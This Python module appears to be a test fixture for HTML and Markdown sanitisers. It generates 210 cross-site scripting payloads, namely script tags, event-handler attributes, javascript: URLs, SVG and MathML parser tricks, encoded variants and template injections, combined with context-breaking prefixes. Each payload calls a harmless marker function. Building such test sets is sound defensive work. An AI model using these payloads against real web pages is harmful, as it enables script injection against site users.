"""Strings that run `injected(number)` where a page takes them for HTML, Markdown, a script or a template."""

from __future__ import annotations

WAYS = r"""
<script>RUN</script>
<script src="data:text/javascript,RUN"></script>
<svg><script>RUN</script></svg>
<img src=x onerror=RUN>
<img src=x onerror="&#105;njected(NUMBER)">
<svg onload=RUN>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><set onbegin=RUN attributeName=x to=1></svg>
<svg><foreignObject><iframe onload=RUN></iframe></foreignObject></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe src="javascript:RUN"></iframe>
<iframe onload=RUN></iframe>
<object data="x" onerror=RUN></object>
<embed src="data:image/svg+xml,x" onload=RUN>
<details open ontoggle=RUN>x</details>
<video><source onerror=RUN></video>
<video src=x onerror=RUN></video>
<audio src=x onerror=RUN></audio>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN></select>
<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=RUN>x</b>
<link rel=stylesheet href="x:x" onerror=RUN>
<body onload=RUN>
<a href="javascript:RUN" autofocus onfocus=RUN>x</a>
<form action="javascript:RUN"><button autofocus onfocus=RUN>x</button></form>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<math href="javascript:RUN"><mi>x</mi></math>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<!--<img src="--><img src=x onerror=RUN//">
<![CDATA[><img src=x onerror=RUN>]]>
<img src='http://elsewhere.invalid/x.png'>
[x](javascript:RUN)
[x](JaVaScRiPt:RUN "title")
![x](x"onerror="RUN)
<javascript:RUN>
$\href{javascript:RUN}{x}$
%3Cscript%3ERUN%3C/script%3E
&lt;script&gt;RUN&lt;/script&gt;
\u003cscript\u003eRUN\u003c/script\u003e
{{constructor.constructor('RUN')()}}
${RUN}
""".strip().splitlines()

# Out of a text, an attribute, a script, and an element whose content is text.
PLACES = ("", "\"'>", "</script>", "';RUN;//", "</title></textarea></style></noscript>")

STRINGS = [
    (place + way).replace("RUN", f"injected({number})").replace("NUMBER", str(number))
    for number, (place, way) in enumerate((place, way) for place in PLACES for way in WAYS)
]
"""210 strings; each calls `injected` with its position."""
